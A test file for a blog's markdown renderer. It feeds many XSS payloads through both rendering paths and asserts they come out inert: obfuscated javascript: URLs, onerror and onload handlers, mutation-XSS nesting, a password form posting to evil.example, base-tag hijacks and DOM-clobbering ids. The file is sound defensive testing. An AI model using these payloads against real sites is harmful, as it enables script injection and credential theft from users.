import { render } from '@testing-library/react';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { loadContent } from '../../src/build/load-content';
import { loadLanguages } from '../../src/markdown/render-markdown';
import { inertProblems } from '../build/inert-markup';
import { BrowserMarkdown, type RenderedPaths, languagesOf, parseHtml, removeRenderedPaths, renderBothPaths } from '../markdown/render-paths';

/**
 * Markdown as readers get it, both ways: the build's HTML as a pre-rendered page shows it, and
 * react-markdown's rendering after a client-side navigation (charts drawn directly, as the
 * pre-renderer draws them). A payload must be inert in both; the path is named in each failure.
 */
async function renderMarkdown(markdown: string): Promise<RenderedPaths> {
  await loadLanguages(languagesOf(markdown));
  return renderBothPaths(markdown);
}

afterEach(removeRenderedPaths);

/** Elements that could run, load, submit or restyle anything: none may come out of a post. */
const LIVE = 'script, style, iframe, frame, object, embed, form, button, textarea, select, base, link, meta, svg, math, noscript, template';

describe('raw HTML in a post that could run, load or submit anything is dropped', () => {
  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><circle r=9 /></svg>',
    '<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<style>body { display: none }</style>',
    '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<a href="javascript:alert(1)">click</a>',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<!-- <img src=x onerror=alert(1)> -->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea></textarea><script>alert(1)</script>',
  ])('%s', async (html) => {
    for (const markdown of [html, `Inline ${html} in a paragraph.`, `> ${html}`, `- ${html}`, `| a |\n| - |\n| ${html} |`]) {
      for (const [path, container] of await renderMarkdown(markdown)) {
        expect(inertProblems(container), `${path}: ${markdown}`).toEqual([]);
        expect(container.querySelector(LIVE), `${path}: ${markdown}`).toBeNull();
      }
    }
  });
});

describe('links and images with unsafe URLs lose them', () => {
  it.each([
    ['javascript:', '[x](javascript:alert(1))'],
    ['mixed case', '[x](JaVaScRiPt:alert(1))'],
    ['a decimal entity', '[x](&#106;avascript:alert(1))'],
    ['a hex entity', '[x](&#x6A;&#x61;vascript:alert(1))'],
    ['an entity colon', '[x](javascript&colon;alert(1))'],
    ['a tab inside', '[x](<java\tscript:alert(1)>)'],
    ['a newline entity inside', '[x](java&#10;script:alert(1))'],
    ['a leading control character', '[x](<\u0001javascript:alert(1)>)'],
    ['a leading space entity', '[x](&#32;javascript:alert(1))'],
    ['vbscript:', '[x](vbscript:msgbox(1))'],
    ['data:text/html', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
    ['file:', '[x](file:///etc/passwd)'],
    ['an autolink', '<javascript:alert(1)>'],
    ['a reference definition', '[x]\n\n[x]: javascript:alert(1)'],
    ['a reference definition with a title', '[x][y]\n\n[y]: JAVASCRIPT:alert(1) "t"'],
  ])('a link with %s', async (_name, markdown) => {
    for (const [path, container] of await renderMarkdown(markdown)) {
      expect(inertProblems(container), path).toEqual([]);
      // The words stay, as text: no link at all, not one with an empty href that reloads the page.
      expect(container.querySelector('a'), path).toBeNull();
      expect(container.querySelector('.blocked-link')?.textContent, path).toBe(markdown.startsWith('<') ? 'javascript:alert(1)' : 'x');
    }
  });

  it.each([
    ['javascript:', '![x](javascript:alert(1))'],
    ['data:image/svg+xml', '![x](data:image/svg+xml,<svg onload=alert(1)>)'],
    ['data:text/html', '![x](data:text/html,<script>alert(1)</script>)'],
    ['an entity', '![x](&#106;avascript:alert(1))'],
    ['file:', '![x](file:///etc/passwd)'],
    ['a reference definition', '![x]\n\n[x]: vbscript:msgbox(1)'],
  ])('an image with %s', async (_name, markdown) => {
    for (const [path, container] of await renderMarkdown(markdown)) {
      expect(inertProblems(container), path).toEqual([]);
      // No src at all (an empty one would fetch the page itself again), or no image: `<` ends the URL.
      expect(container.querySelector('img')?.hasAttribute('src') ?? false, path).toBe(false);
    }
  });

  it('keeps safe URLs: http(s), mailto, site paths, anchors and files beside the post', async () => {
    const markdown =
      '[a](https://example.org/x?y=1#z) [b](http://example.org) [c](mailto:me@example.org) [d](/posts/other/) [e](#section) [f](notes.txt) ![g](./diagram.svg)';
    for (const [path, container] of await renderMarkdown(markdown)) {
      const hrefs = [...container.querySelectorAll('a')].filter((a) => a.textContent !== '#').map((a) => a.getAttribute('href'));
      expect(hrefs, path).toEqual([
        'https://example.org/x?y=1#z',
        'http://example.org',
        'mailto:me@example.org',
        '/posts/other/',
        '#section',
        '/media/posts/x/notes.txt',
      ]);
      expect(container.querySelector('img'), path).toHaveAttribute('src', '/media/posts/x/diagram.svg');
    }
  });

  it('opens external links in a new tab without handing the page to them', async () => {
    for (const [path, container] of await renderMarkdown(
      '[out](https://example.org) [scheme-relative](//example.org/x) <https://example.org/auto> www.example.org',
    )) {
      const external = [...container.querySelectorAll('a')];
      expect(external, path).toHaveLength(4);
      for (const link of external) {
        expect(link, path).toHaveAttribute('rel', 'noopener noreferrer');
        expect(link, path).toHaveAttribute('target', '_blank');
      }
    }
  });

  it('keeps site and relative links in the tab, and a backslash cannot turn a site path into another host', async () => {
    for (const [path, container] of await renderMarkdown('[site](/posts/x/) [file](x.txt) [slash](/\\evil.example)')) {
      const links = [...container.querySelectorAll('a')];
      expect(links, path).toHaveLength(3);
      for (const link of links) {
        expect(link, path).not.toHaveAttribute('target');
        expect(new URL(link.getAttribute('href')!, 'https://blog.example/').host, path).toBe('blog.example');
      }
    }
  });
});

describe('text that reaches attributes stays inside them', () => {
  it.each([
    ['a link title', '[x](https://example.org "\\" onmouseover=\\"alert(1)")', 'a', 'title', '" onmouseover="alert(1)'],
    ['a link title in single quotes', "[x](https://example.org '\\' onmouseover=\\'alert(1)')", 'a', 'title', "' onmouseover='alert(1)"],
    ['a site link title', '[x](/posts/y/ "\\" onmouseover=\\"alert(1)")', 'a', 'title', '" onmouseover="alert(1)'],
    ['image alt text', '![" onerror="alert(1)](https://example.org/a.png)', 'img', 'alt', '" onerror="alert(1)'],
    ['image alt text with markup', '![<img src=x onerror=alert(1)>](https://example.org/a.png)', 'img', 'alt', '<img src=x onerror=alert(1)>'],
    ['an image title', '![x](https://example.org/a.png "\\"><script>alert(1)</script>")', 'img', 'title', '"><script>alert(1)</script>'],
  ])('%s', async (_name, markdown, tag, attribute, value) => {
    for (const [path, container] of await renderMarkdown(markdown)) {
      expect(inertProblems(container), path).toEqual([]);
      expect(container.querySelector(tag), path).toHaveAttribute(attribute, value);
    }
  });

  it('keeps a code fence info string as inert text and class', async () => {
    for (const [path, container] of await renderMarkdown('```"><script>alert(1)</script>\ncode\n```\n\n~~~" onmouseover="alert(1)\ncode\n~~~')) {
      expect(inertProblems(container), path).toEqual([]);
      expect(container.querySelectorAll('pre'), path).toHaveLength(2);
    }
  });

  it.each(['toString', 'hasOwnProperty', 'valueOf', 'prototype'])('renders a fence in the language %s as code', async (language) => {
    for (const [path, container] of await renderMarkdown(`\`\`\`${language}\nx = 1\n\`\`\``)) {
      expect(inertProblems(container), path).toEqual([]);
      expect(container.querySelector('pre code'), path).toHaveTextContent('x = 1');
    }
  });

  // The label was once read from a plain object without an own-key check: `__proto__` made
  // React throw and `constructor` labelled the Copy button "function Object() { [native code] }".
  it.each(['__proto__', 'constructor', 'hasOwnProperty'])('renders a fence in the language %s as code, labelled as written', async (language) => {
    for (const [path, container] of await renderMarkdown(`\`\`\`${language}\nx = 1\n\`\`\``)) {
      expect(container.querySelector('pre code'), path).toHaveTextContent('x = 1');
      expect(container.querySelector('button')?.getAttribute('aria-label'), path).toBe(`Copy code (${language})`);
    }
  });

  it('draws a chart whose title, labels and cells carry markup as text', async () => {
    const payload = '<img src=x onerror=alert(1)>';
    const markdown = `\`\`\`chart\ntitle: ${payload}\nday,"${payload}"\n"</script><script>alert(1)</script>",1\n"\\" onmouseover=\\"x",2\n\`\`\``;
    for (const [path, container] of await renderMarkdown(markdown)) {
      expect(inertProblems(container), path).toEqual([]);
      expect(container.textContent, path).toContain(payload);
    }
  });
});

describe('names that are also JavaScript or DOM names', () => {
  const names = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'location', 'document', 'cookie', 'top', 'forms', 'name'];

  it('gives headings named after them ids, and the page keeps working', async () => {
    for (const [path, container] of await renderMarkdown(names.map((name) => `## \`${name}\``).join('\n\n'))) {
      expect(inertProblems(container), path).toEqual([]);
      expect(
        [...container.querySelectorAll('h2')].map((heading) => heading.id),
        path,
      ).toEqual(names.map((name) => name.toLowerCase()));
    }
    // Both renderings are in the document now: an id like `location` must not have replaced the global.
    expect(document.location.href).toBe('http://localhost:3000/');
    expect(typeof document.cookie).toBe('string');
  });

  it('renders footnotes with those labels, their ids prefixed so they cannot clobber globals', async () => {
    const markdown = `${names.map((name, index) => `Note ${index}[^${name}].`).join(' ')}\n\n${names.map((name) => `[^${name}]: About ${name}.`).join('\n')}`;
    for (const [path, container] of await renderMarkdown(markdown)) {
      expect(inertProblems(container), path).toEqual([]);
      const ids = [...container.querySelectorAll('[id]')].map((element) => element.id).filter((id) => id !== 'user-content-footnote-label');
      expect(ids.length, path).toBe(names.length * 2);
      for (const id of ids) expect(id, path).toMatch(/^user-content-fn(ref)?-/);
      expect(container.querySelectorAll('section[data-footnotes] li'), path).toHaveLength(names.length);
    }
  });

  it('resolves reference links with those labels', async () => {
    const markdown = `${names.map((name) => `[${name}]`).join(' ')}\n\n${names.map((name) => `[${name}]: https://example.org/${name}`).join('\n')}`;
    for (const [path, container] of await renderMarkdown(markdown)) {
      expect(
        [...container.querySelectorAll('a')].map((a) => a.getAttribute('href')),
        path,
      ).toEqual(names.map((name) => `https://example.org/${name}`));
    }
  });
});

describe('nesting at the build limit', () => {
  it('renders 30 nested blockquotes and a list nested 20 deep without overflowing', async () => {
    const markdown = `${'> '.repeat(30)}deep\n\n${Array.from({ length: 20 }, (_, level) => `${'  '.repeat(level)}- level ${level}`).join('\n')}`;
    for (const [path, container] of await renderMarkdown(markdown)) {
      expect(container.querySelectorAll('blockquote'), path).toHaveLength(30);
      expect(container.querySelectorAll('ul'), path).toHaveLength(20);
    }
  });
});

/** Payloads in every field that reaches a page, built as the build builds them. */
const HOSTILE = path.resolve(__dirname, '../fixtures/hostile');

describe('the hostile corpus', () => {
  const { posts } = loadContent(HOSTILE, { drafts: false });

  it('has posts to check', () => {
    expect(posts.length).toBeGreaterThan(10);
  });

  it.each(posts.map((post) => [post.file, post] as const))('renders %s inert in its built page', (_file, post) => {
    expect(inertProblems(parseHtml(post.html))).toEqual([]);
  });

  it.each(posts.map((post) => [post.file, post] as const))('renders %s inert in the browser', async (_file, post) => {
    await loadLanguages(post.languages);
    const { container } = render(<BrowserMarkdown markdown={post.markdown} assetBase={post.assetBase} images={post.images} />);
    expect(inertProblems(container)).toEqual([]);
  });
});
